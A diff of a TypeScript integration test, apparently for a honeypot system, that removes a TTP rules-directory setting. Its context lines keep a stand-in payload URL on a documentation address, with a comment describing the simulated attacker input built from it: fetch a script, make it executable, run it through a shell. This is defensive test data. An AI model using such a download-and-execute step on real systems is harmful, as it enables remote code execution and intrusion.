@@ -11,7 +11,6 @@ import { openDatabase, type Database } from '@decnet/db';
 import { createScratchDatabase, type ScratchDatabase } from '@decnet/testing/postgres';
 import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import {
-  WORKSPACE_ROOT,
   bundle,
   decnet,
   ensureCommands,
@@ -30,8 +29,6 @@ import {
 } from './harness.js';
 
 const WORKERS = ['collector', 'ingester', 'profiler', 'ttp', 'webhook'] as const;
-/** Upstream's rule set, kept beside the workspace (see ../shared/upstream-data). */
-const RULES_DIR = join(WORKSPACE_ROOT, '../shared/upstream-data/ttp-rules');
 /** A documentation address (RFC 5737): the fake shell never fetches anything. */
 const PAYLOAD_URL = 'http://203.0.113.50/x.sh';
 /** What the attacker types: fetch a script, make it executable, run it through a shell. */
@@ -80,7 +77,6 @@ async function prepare(env: Record<string, string | undefined>): Promise<{ env: 
     DECNET_HOME: home,
     DECNET_LOG_LEVEL: 'info',
     DECNET_HEALTH_INTERVAL_MS: '500',
-    DECNET_TTP_RULES_DIR: RULES_DIR,
     // The receiver is on loopback, which the SSRF guard refuses unless the operator allows it.
     DECNET_WEBHOOK_ALLOW_CIDRS: '127.0.0.1/32',
   };
